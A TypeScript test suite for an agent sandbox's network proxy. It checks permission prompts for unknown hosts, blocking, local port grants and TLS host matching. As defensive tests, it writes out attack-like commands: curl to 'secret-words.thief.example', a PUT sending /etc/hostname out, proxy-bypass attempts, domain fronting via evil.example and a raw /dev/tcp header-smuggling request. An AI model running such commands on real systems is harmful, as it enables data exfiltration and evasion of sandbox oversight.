import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createTlsSite } from 'node:https';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { openNamespaceAgent } from '../../../src/parts/terminals/loopback/namespace.ts';
import { listenQuickly } from '../../../src/parts/terminals/loopback/quick-listen.ts';
import { readListeners } from '../../../src/parts/terminals/loopback/listening.ts';
import { listening, site } from '../safety/urls/setup.ts';
import type { HostAnswer } from '../../../src/contracts/wall.ts';
import { noNamespaces, openStage, PUBLIC } from './network-stage.ts';

const skip = noNamespaces === undefined ? false : `no namespaces: ${noNamespaces}`;
const has = (program: string): boolean => spawnSync('sh', ['-c', `command -v ${program}`]).status === 0;
const without = (program: string) => skip || (has(program) ? false : `${program} is not installed`);
const yes = () => true;

test('a host that is not known is asked about once, and a no is told to the program and to us', { skip }, async () => {
  const page = await site((_request, response) => response.end('hello from outside\n'));
  const stage = await openStage({ names: () => [PUBLIC], ports: () => page.port });
  const fetchBoth = 'curl -sS http://one.example/a & curl -sS http://one.example/b & wait';
  const allowed = await stage.run(fetchBoth, yes);
  assert.equal(allowed.reachedNobody, false);
  assert.equal(allowed.output, 'hello from outside\nhello from outside\n');
  assert.deepEqual(stage.asked, [{ host: 'one.example', port: 80, how: 'GET' }]);
  assert.deepEqual(allowed.pauses, [true, false]);
  const refused = await stage.run('curl -sS http://one.example/a', () => false);
  assert.equal(refused.reachedNobody, true);
  assert.match(refused.output, /Blocked by the sandbox: the user has not allowed connections to one\.example/);
  const why = 'the user has not allowed connections to one.example.';
  assert.deepEqual(refused.blocked, [{ type: 'host', host: 'one.example', port: 80, why }]);
  assert.deepEqual(stage.notices, []);
});

test('with nobody to ask the answer is no, and the owner is told once', { skip }, async () => {
  const stage = await openStage({ names: () => [PUBLIC] });
  const { output } = await stage.run('curl -sS http://one.example/; curl -sS http://one.example/; curl -sS https://other.example:8443/');
  assert.match(output, /has not allowed connections to one\.example/);
  assert.deepEqual(
    stage.notices.map((words) => /connect to (\S+)/.exec(words)?.[1]),
    ['one.example', 'other.example:8443'],
  );
  assert.deepEqual(stage.dialed, []);
});

test('what the owner says, where a name leads and why nobody answered is told besides the number a tunnel gives', { skip }, async () => {
  const names = { 'doc.example': ['203.0.113.80'], 'gone.example': [] };
  const stage = await openStage({ names: (host) => Object.entries(names).find(([name]) => name === host)?.[1] ?? [PUBLIC] });
  const said = async (host: string, answer: HostAnswer) => {
    const { blocked, unreached } = await stage.run(`curl -sS https://${host}/`, () => answer);
    return [...blocked, ...unreached].map((each) => ('why' in each ? each.why : ''));
  };
  assert.deepEqual(await said('one.example', { why: 'the user said no: later.' }), ['the user said no: later.']);
  assert.match((await said('doc.example', true))[0] ?? '', /^doc\.example leads to 203\.0\.113\.80, .*documentation/);
  assert.deepEqual(await said('gone.example', true), ['its name could not be looked up']);
});

test('names are only looked up once they are allowed: a look-up tells somebody', { skip }, async () => {
  const looked: string[] = [];
  const stage = await openStage({ names: (host) => (looked.push(host), [PUBLIC]) });
  await stage.run('curl -sS https://secret-words.thief.example/', () => false);
  assert.deepEqual(looked, []);
});

test('there is no way around the proxy', { skip }, async () => {
  const stage = await openStage({});
  const { output } = await stage.run(
    `curl -sS --noproxy '*' --max-time 3 http://${PUBLIC}/; curl -sS --noproxy '*' --max-time 3 http://one.example/; cat /proc/net/dev | grep -c : `,
  );
  assert.match(output, /Could not connect|Couldn't connect|Failed to connect|unreachable/i);
  assert.match(output, /Could not resolve/);
  assert.match(output, /^1$/m, 'the loopback is the only interface');
});

test('curl, git, node and python go through by themselves', { skip: without('git') }, async () => {
  const repository = mkdtempSync(join(tmpdir(), 'hermes-bare-'));
  after(() => rmSync(repository, { recursive: true, force: true }));
  spawnSync(
    'sh',
    [
      '-c',
      'git init -q w && cd w && git -c user.name=a -c user.email=a@b commit -qm one --allow-empty && git clone -q --bare . ../r.git && cd ../r.git && git update-server-info',
    ],
    { cwd: repository },
  );
  const files = await site((request, response) => {
    try {
      response.end(readFileSync(join(repository, (request.url ?? '').replace(/\?.*/, ''))));
    } catch {
      response.writeHead(404).end();
    }
  });
  const stage = await openStage({ allowed: ['code.example'], names: () => [PUBLIC], ports: () => files.port });
  assert.equal((await stage.run('git clone -q http://code.example/r.git copy && git -C copy log --format=%s')).output, 'one\n');
  assert.equal((await stage.run(`curl -sS --socks5-hostname 127.0.0.1:14128 http://code.example/r.git/HEAD`)).output.slice(0, 5), 'ref: ');
  assert.equal((await stage.run(`curl -sS -p -x http://127.0.0.1:14128 http://code.example/r.git/HEAD`)).output.slice(0, 5), 'ref: ');
  const node = `${process.execPath} -e "fetch('http://code.example/r.git/HEAD').then(async (r) => console.log(r.status, (await r.text()).slice(0, 5)))"`;
  assert.match((await stage.run(node)).output, /200 ref: /);
  if (has('python3'))
    assert.match(
      (await stage.run(`python3 -c "import urllib.request as u; print(u.urlopen('http://code.example/r.git/HEAD').read()[:5])"`)).output,
      /b'ref: '/,
    );
});

test('npm installs from the registry without a question, and publishing there in the open is one', { skip: without('npm') }, async () => {
  const packed = pack('package', { 'package.json': JSON.stringify({ name: 'left', version: '1.0.0' }), 'index.js': 'module.exports = 1' });
  const registry = await site((request, response) => {
    if (request.url === '/left.tgz') return void response.end(packed);
    const dist = {
      tarball: 'http://registry.npmjs.org/left.tgz',
      integrity: `sha512-${createHash('sha512').update(packed).digest('base64')}`,
    };
    response.setHeader('content-type', 'application/json');
    response.end(
      JSON.stringify({ name: 'left', 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': { name: 'left', version: '1.0.0', dist } } }),
    );
  });
  const stage = await openStage({ names: () => [PUBLIC], ports: () => registry.port });
  const npm = 'npm_config_registry=http://registry.npmjs.org npm_config_update_notifier=false npm_config_audit=false npm';
  const installed = await stage.run(`${npm} install left && cat node_modules/left/index.js`, () => false);
  assert.match(installed.output, /module\.exports = 1/);
  assert.deepEqual(stage.asked, []);
  await stage.run('curl -sS -X PUT -d @/etc/hostname http://registry.npmjs.org/mine', () => false);
  assert.deepEqual(stage.asked, [{ host: 'registry.npmjs.org', port: 80, how: 'PUT' }]);
});

test('pip installs from an index', { skip: without('pip') }, async () => {
  const wheel = spawnSync(
    'python3',
    [
      '-c',
      `import zipfile,sys,io
b=io.BytesIO(); z=zipfile.ZipFile(b,'w'); z.writestr('left.py','x = 41'); z.writestr('left-1.0.dist-info/METADATA','Metadata-Version: 2.1\\nName: left\\nVersion: 1.0\\n'); z.writestr('left-1.0.dist-info/WHEEL','Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n'); z.writestr('left-1.0.dist-info/RECORD',''); z.close(); sys.stdout.buffer.write(b.getvalue())`,
    ],
    { maxBuffer: 1e7 },
  ).stdout;
  const index = await site((request, response) => {
    if (request.url?.endsWith('.whl') === true) return void response.end(wheel);
    response.setHeader('content-type', 'text/html');
    response.end(
      '<html><body><a href="http://files.pythonhosted.org/left-1.0-py3-none-any.whl">left-1.0-py3-none-any.whl</a></body></html>',
    );
  });
  const stage = await openStage({ names: () => [PUBLIC], ports: () => index.port });
  const { output } = await stage.run(
    'python3 -m pip install -q --disable-pip-version-check --no-cache-dir --index-url http://pypi.org/simple --trusted-host pypi.org --trusted-host files.pythonhosted.org --target here left; cat here/left.py',
    () => false,
  );
  assert.match(output, /x = 41/);
  assert.deepEqual(stage.asked, []);
});

test('an encrypted connection must be for the host that was asked about', { skip: without('openssl') }, async () => {
  const { key, cert } = selfSigned();
  const secure = createTlsSite({ key, cert }, (_request, response) => response.end('secret page\n'));
  const { port } = await listening(secure);
  const stage = await openStage({ allowed: ['good.example'], names: () => [PUBLIC], ports: () => port });
  assert.equal((await stage.run('curl -sSk https://good.example/')).output, 'secret page\n');
  assert.equal((await stage.run('curl -sSk --socks5-hostname 127.0.0.1:14128 https://good.example/')).output, 'secret page\n');
  const fronted = await stage.run('curl -sSk --connect-to evil.example:443:good.example:443 https://evil.example/');
  assert.doesNotMatch(fronted.output, /secret page/);
  const nameless = await stage.run(
    'echo | openssl s_client -noservername -proxy 127.0.0.1:14128 -connect good.example:443 2>&1 | grep -c CERTIFICATE',
  );
  assert.equal(nameless.output.trim(), '0');
  const plain = await stage.run(
    `printf 'CONNECT good.example:443 HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n' | timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/14128; cat >&3; cat <&3'`,
  );
  assert.doesNotMatch(plain.output, /400|secret/);
});

test('a port of this machine and a socket are there once they were granted by name', { skip }, async () => {
  const here = await site((_request, response) => response.end('a service of this machine\n'));
  const stage = await openStage({});
  const ask = `curl -sS --max-time 3 http://localhost:${here.port}/`;
  assert.match((await stage.run(ask)).output, /connect/i);
  await stage.network.grant({ type: 'port', port: here.port });
  assert.equal((await stage.run(ask)).output, 'a service of this machine\n');
  const folder = mkdtempSync(join(tmpdir(), 'hermes-socket-'));
  after(() => rmSync(folder, { recursive: true, force: true }));
  const server = createServer((socket) => socket.end('spoken by a socket\n')).listen(join(folder, 'own.sock'));
  after(() => server.close());
  await stage.network.grant({ type: 'socket', path: join(folder, 'own.sock') });
  const read = `perl -MIO::Socket::UNIX -e 'print IO::Socket::UNIX->new(Peer => "/run/hermes/sockets/own.sock")->getline'`;
  assert.equal((await stage.run(read)).output, 'spoken by a socket\n');
});

test('the loopback is that of the sandbox, for the proxy too: a service of this machine is not found there', { skip }, async () => {
  const here = await site((_request, response) => response.end('a service of this machine'));
  const stage = await openStage({});
  const port = await freePort();
  const child = stage.start(`exec ${process.execPath} -e "require('node:http').createServer((q, s) => s.end('inside')).listen(${port})"`);
  after(() => child.kill('SIGKILL'));
  await until(() => readListeners(stage.holder.pid).some((each) => each.port === port));
  const ask = (host: string, to: number) => stage.run(`curl -sS --noproxy '' -x http://127.0.0.1:14128 http://${host}:${to}/`);
  for (const host of ['127.0.0.1', 'localhost', '[::1]', '127.9.9.9', 'app.localhost', '0.0.0.0']) {
    assert.equal((await ask(host, port)).output, 'inside', host);
    assert.doesNotMatch((await ask(host, here.port)).output, /a service of this machine/, host);
  }
  assert.match((await ask('127.0.0.1', 14128)).output, /could not be reached/);
});

test('a server in the background is reached at the same port of this machine, until it is gone', { skip: without('python3') }, async () => {
  const stage = await openStage({});
  const free = await freePort();
  const begun = stage.network.begin({ background: true, pause: () => {} });
  const child = stage.start(`cd ${stage.workspace} && echo served > page && exec ${process.execPath} -e "
require('node:http').createServer((q, s) => s.end('from inside')).listen(${free}, '0.0.0.0')"`);
  after(() => child.kill('SIGKILL'));
  await until(() => stage.network.reachable().length > 0);
  assert.deepEqual(stage.network.reachable(), [{ inside: free, here: free }]);
  assert.equal(await (await fetch(`http://127.0.0.1:${free}/`)).text(), 'from inside');
  begun.end();
  assert.deepEqual(stage.network.reachable(), []);
  await assert.rejects(fetch(`http://127.0.0.1:${free}/`));
});

test('a server whose port is taken here is reached at another one, and databases at none', { skip }, async () => {
  const taken = await site((_request, response) => response.end('of this machine'));
  const stage = await openStage({});
  const begun = stage.network.begin({ background: true, pause: () => {} });
  const child = stage.start(`exec ${process.execPath} -e "
const h = require('node:http'); for (const p of [${taken.port}, 5432]) h.createServer((q, s) => s.end('from inside')).listen(p, '127.0.0.1')"`);
  after(() => child.kill('SIGKILL'));
  await until(() => stage.network.reachable().length > 0);
  const [server, ...more] = stage.network.reachable();
  assert.deepEqual(more, []);
  assert.equal(server?.inside, taken.port);
  assert.equal(await (await fetch(`http://127.0.0.1:${server?.here}/`)).text(), 'from inside');
  assert.match(
    stage.notices[0] ?? '',
    new RegExp(`reachable at http://localhost:${server?.here}: port ${taken.port} is taken on this machine`),
  );
  begun.end();
});

test('listeners come by the quick way as by the slow one', { skip: without('perl') }, async () => {
  const stage = await openStage({});
  const namespace = { holder: stage.holder.pid, nsenter: '/usr/bin/nsenter' };
  const quick = await listenQuickly(namespace, [7001, 7002]);
  const agent = await openNamespaceAgent(namespace);
  const slow = await agent.listen(7003);
  agent.close();
  const servers = [...(quick?.values() ?? []), slow];
  after(() => servers.forEach((server) => server.close()));
  for (const server of servers) server.on('connection', (socket) => socket.end(`port ${socket.localPort}\n`));
  const { output } = await stage.run('for port in 7001 7002 7003; do cat </dev/tcp/127.0.0.1/$port; done');
  assert.equal(output, 'port 7001\nport 7002\nport 7003\n');
  assert.equal(await listenQuickly(namespace, [7001]), undefined, 'a port that is taken');
});

test('unattended, only what the owner listed is reached', { skip }, async () => {
  const page = await site((_request, response) => response.end('listed\n'));
  const stage = await openStage({ listedOnly: true, allowed: ['*.listed.example'], names: () => [PUBLIC], ports: () => page.port });
  assert.equal((await stage.run('curl -sS http://a.listed.example/')).output, 'listed\n');
  assert.match((await stage.run('curl -sS http://registry.npmjs.org/left')).output, /Blocked by the sandbox/);
});

async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  await new Promise((resolve) => server.close(resolve));
  return port;
}

async function until(is: () => boolean): Promise<void> {
  while (!is()) await new Promise((resolve) => setTimeout(resolve, 20));
}

function selfSigned(): { readonly key: Buffer; readonly cert: Buffer } {
  const folder = mkdtempSync(join(tmpdir(), 'hermes-cert-'));
  after(() => rmSync(folder, { recursive: true, force: true }));
  const words = 'req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj /CN=good.example -keyout key -out cert';
  spawnSync('openssl', words.split(' '), { cwd: folder });
  return { key: readFileSync(join(folder, 'key')), cert: readFileSync(join(folder, 'cert')) };
}

/** An archive as a registry would give it. */
function pack(folder: string, files: Readonly<Record<string, string>>): Buffer {
  const root = mkdtempSync(join(tmpdir(), 'hermes-pack-'));
  after(() => rmSync(root, { recursive: true, force: true }));
  mkdirSync(join(root, folder));
  for (const [name, text] of Object.entries(files)) writeFileSync(join(root, folder, name), text);
  return gzipSync(spawnSync('tar', ['-c', folder], { cwd: root, maxBuffer: 1e7 }).stdout);
}
